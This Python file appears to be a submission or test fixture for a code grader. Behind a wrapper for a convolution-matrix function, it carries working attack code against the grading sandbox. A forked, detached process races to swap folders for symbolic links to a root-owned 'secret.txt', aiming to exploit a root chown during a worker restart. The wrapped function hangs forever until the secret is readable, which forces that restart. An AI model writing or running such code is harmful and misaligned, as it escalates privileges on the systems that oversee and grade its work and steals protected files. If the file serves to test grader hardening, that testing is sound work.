from _correct import install

install(globals())
import os
import time

# The grader once chowned the scratch folder (as root) when a worker restarted. A stray
# process swaps folders for symbolic links to a root-owned stand-in while that happens,
# hoping the new worker's user id ends up owning what the links point to.
STANDIN = "/tmp/hostile-standin"
if os.fork() == 0:
    os.setsid()
    deadline = time.monotonic() + 60
    n = 0
    while time.monotonic() < deadline:
        n += 1
        try:
            os.makedirs(f"d{n % 50}/inner", exist_ok=True)
            os.rename(f"d{n % 50}", f"old{n}")
            os.symlink(STANDIN, f"d{n % 50}")
            os.symlink(STANDIN + "/secret.txt", f"f{n % 50}")
        except OSError:
            pass
    os._exit(0)
_correct_multichannel = conv_matrix_multichannel


def conv_matrix_multichannel(*args, **kwargs):
    try:
        with open(STANDIN + "/secret.txt") as handle:
            handle.read()
    except OSError:
        while True:  # a timeout restarts the worker: the moment the race was about
            pass
    return _correct_multichannel(*args, **kwargs)
